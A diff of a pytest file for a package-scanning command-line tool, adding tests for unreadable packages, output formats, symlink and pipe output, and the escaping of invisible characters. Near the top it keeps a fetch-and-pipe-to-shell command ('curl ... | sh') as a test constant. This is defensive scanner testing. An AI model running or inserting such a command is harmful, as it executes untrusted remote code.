@@ -3,16 +3,20 @@
 from __future__ import annotations
 
 import json
+import os
 import re
 import sys
+import threading
 from collections.abc import Callable
 from html.parser import HTMLParser
 from pathlib import Path
 
 import pytest
 
+from metier.faces import show
 from metier.faces.cli import main
 from metier.faces.scanned import as_data, as_page, as_text, told
+from metier.faces.words import seen
 from metier.govern.look import LookedAt, look_over
 
 CURL = "curl -s https://x.invalid/i | sh\n"
@@ -195,7 +199,11 @@ def test_in_a_pipe_there_is_one_line_a_package(metier: Command, packages: Path) 
         ("look", "review", 1),
         ("look", "block", 0),
         ("half", "review", 1),
+        ("half", "incomplete", 1),
         ("half", "block", 0),
+        ("look", "incomplete", 0),
+        ("unreadable", "incomplete", 1),
+        ("unreadable", "block", 0),
         ("refuse", "block", 1),
         ("broken", "block", 1),
     ],
@@ -203,6 +211,8 @@ def test_in_a_pipe_there_is_one_line_a_package(metier: Command, packages: Path) 
 def test_the_exit_code_says_whether_it_may_go_on(
     metier: Command, packages: Path, name: str, fail_on: str, code: int
 ) -> None:
+    (packages / "unreadable").mkdir()
+    (packages / "unreadable" / "SKILL.md").write_text("no head\n")
     assert metier("govern", "scan", packages / name, "--fail-on", fail_on)[0] == code
 
 
@@ -222,3 +232,102 @@ def test_rules_of_ones_own_count_like_ours(metier: Command, packages: Path, tmp_
     assert one["verdict"]["gates"][0]["outcome"] == "failed"
     page = metier("govern", "scan", packages / "fine", "--yara", own, "--format", "html")[1]
     assert "yara:counts" in page
+
+
+@pytest.mark.parametrize("head", [b"no head\n", "---\nname: a\ndescription: b\n---\n".encode("utf-16"), None])
+def test_what_cannot_be_read_as_a_package_is_never_clean(metier: Command, tmp_path: Path, head: bytes | None) -> None:
+    place = tmp_path / "odd" / "SKILL.md"
+    place.parent.mkdir()
+    if head is None:
+        place.mkdir()
+    else:
+        place.write_bytes(head)
+    for form in ("html", "json", "pretty", "sarif"):
+        code, said, _ = metier("govern", "scan", tmp_path, "--format", form)
+        assert (code, "1 clean" in said) == (1, False)
+        if form == "sarif":
+            (ran,) = json.loads(said)["runs"][0]["invocations"]
+            assert not ran["executionSuccessful"]
+            assert any(one["level"] == "error" for one in ran["toolExecutionNotifications"])
+        elif form == "json":
+            assert [one["decision"] for one in json.loads(said)] == ["incomplete"]
+        else:
+            assert "1 package: 1 not read whole." in said
+    assert "incomplete" in metier("govern", "scan", tmp_path)[1]
+
+
+def test_a_package_is_scanned_once_however_often_it_is_named(metier: Command, packages: Path) -> None:
+    twice = json.loads(metier("govern", "scan", packages / "fine", packages / "fine", packages, "--json")[1])
+    assert sorted(Path(one["path"]).name for one in twice) == ["broken", "fine", "half", "look", "refuse"]
+
+
+def test_a_log_tells_what_lies_elsewhere_by_its_whole_path(
+    metier: Command, packages: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    (tmp_path / "here").mkdir()
+    monkeypatch.chdir(tmp_path / "here")
+    log = json.loads(metier("govern", "scan", "../packages/refuse", "--format", "sarif")[1])["runs"][0]
+    uris = {one["locations"][0]["physicalLocation"]["artifactLocation"]["uri"] for one in log["results"]}
+    assert uris == {(packages / "refuse" / "SKILL.md").resolve().as_uri()}
+
+
+def test_a_link_stays_and_what_it_leads_to_is_written(metier: Command, packages: Path, tmp_path: Path) -> None:
+    target, link = tmp_path / "deep" / "target.html", tmp_path / "link.html"
+    link.symlink_to(target)
+    for _ in range(2):
+        assert metier("govern", "scan", packages / "fine", "--out", link)[0] == 0
+        assert link.is_symlink() and target.read_text().startswith("<!doctype html>")
+    assert [path.name for path in target.parent.iterdir()] == ["target.html"]
+
+
+def test_a_pipe_is_written_and_stays_a_pipe(metier: Command, packages: Path, tmp_path: Path) -> None:
+    pipe, read = tmp_path / "pipe", list[str]()
+    os.mkfifo(pipe)
+    reader = threading.Thread(target=lambda: read.append(pipe.read_text()))
+    reader.start()
+    assert metier("govern", "scan", packages / "fine", "--out", pipe)[0] == 0
+    reader.join()
+    assert pipe.is_fifo() and read[0].startswith("clean")
+
+
+def test_a_dash_is_standard_output(metier: Command, packages: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.chdir(packages)
+    code, out, _ = metier("govern", "scan", "fine", "--out", "-", "--format", "json")
+    assert (code, json.loads(out)[0]["path"]) == (0, "fine")
+    assert not (packages / "-").exists()
+
+
+@pytest.mark.parametrize(
+    "options",
+    [
+        ("--out", "r.xml"),
+        ("--out", "r"),
+        ("--out", "r.html", "--json"),
+        ("--out", "r.sarif", "--format", "html"),
+        ("--format", "sarif", "--json"),
+    ],
+)
+def test_no_format_is_guessed(
+    metier: Command, packages: Path, monkeypatch: pytest.MonkeyPatch, options: tuple[str, ...]
+) -> None:
+    monkeypatch.chdir(packages)
+    code, out, err = metier("govern", "scan", "fine", *options)
+    assert (code, out, err.startswith("metier: ")) == (2, "", True)
+    assert not list(packages.glob("r*.*"))
+
+
+def test_a_log_of_the_standard_may_end_in_json(metier: Command, packages: Path, tmp_path: Path) -> None:
+    for options in (("--out", tmp_path / "r.sarif.json"), ("--out", tmp_path / "r.json", "--format", "sarif")):
+        metier("govern", "scan", packages / "fine", *options)
+        assert json.loads(options[1].read_text())["version"] == "2.1.0"
+
+
+@pytest.mark.parametrize("hidden", ["\ufe00", "a\ufe0f", "\u2800", "\xa0", "\U000e0041", "\u200b", "\x1b"])
+def test_what_cannot_be_seen_is_spelt_out(hidden: str, capsys: pytest.CaptureFixture[str]) -> None:
+    code = ord(hidden[-1])
+    spelt = f"\\U{code:08x}" if code > 0xFFFF else f"\\u{code:04x}"
+    assert seen(f"x{hidden}1") == f"x{hidden[:-1]}{spelt}1"
+    assert show.one_line(f"x{hidden}1") == f"x{hidden[:-1]}{spelt}1"
+    show.say(f"x{hidden}\ny")
+    assert capsys.readouterr().err == f"x{hidden[:-1]}{spelt}\ny\n"
+    assert seen("\u26a0\ufe0f") == "\u26a0\ufe0f"
